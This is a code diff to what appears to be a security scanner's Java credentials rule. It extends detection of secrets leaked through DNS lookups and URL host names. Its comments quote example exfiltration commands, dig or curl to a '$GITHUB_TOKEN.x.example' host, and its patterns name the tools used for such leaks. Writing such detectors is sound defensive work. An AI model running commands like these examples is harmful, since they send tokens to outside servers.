@@ -473,8 +473,13 @@ final class Credentials {
         return c.named("ssh autossh scp sftp") && c.argFind("(?i)^['\"]?(-o)?['\"]?sendenv[\\s=]+.*(\\*|" + SECRET_NAME_WORDS + ")");
     }
 
-    /** DNS lookup clients: every label of the name they resolve reaches the name servers on the way. */
-    private static final String DNS_CLIENTS = "dig nslookup host drill kdig resolvectl delv Resolve-DnsName";
+    /**
+     * DNS lookup clients, and the tools that resolve the host name they are given before anything
+     * else (getent, ping, traceroute, PowerShell's Test-Connection; rt33b): every label of the name
+     * reaches the name servers on the way.
+     */
+    private static final String DNS_CLIENTS = "dig nslookup host drill kdig resolvectl delv Resolve-DnsName getent ping ping6"
+            + " traceroute traceroute6 tracepath mtr Test-Connection Test-NetConnection";
 
     /**
      * True for a DNS lookup of a name built from a secret-named variable ({@code dig "$GITHUB_TOKEN.x.example"},
@@ -484,7 +489,12 @@ final class Credentials {
      * as a secret read (SW4104) sent by the lookup (SW4006).
      */
     static boolean isLooksUpSecretVariable(Cmd c) {
-        return c.nameIs(DNS_CLIENTS) && c.argFind("(?i)\\$(\\{|env:)?" + SECRET_VARIABLE);
+        return c.nameIs(DNS_CLIENTS) && c.argFind("(?i)\\$(\\{|env:)?" + SECRET_VARIABLE)
+                // a URL whose host is built from one (`curl "https://$GITHUB_TOKEN.x.example/"`, rt33b):
+                // the client resolves the host before it sends anything; a token as the URL's user
+                // (`https://x-access-token:$GITHUB_TOKEN@github.com/…`) is a credential used, not looked up
+                || (c.isUrlClient() || c.nameIs("Invoke-WebRequest Invoke-RestMethod iwr irm"))
+                        && c.argFind("(?i)://([^/\\s?#]*@)?[^/\\s?#@:]*\\$(\\{|env:)?" + SECRET_VARIABLE + "(?![^/\\s?#]*@)");
     }
 
     /** The words that make a name a credential's by convention (the grammar's table, shared with CI files). */
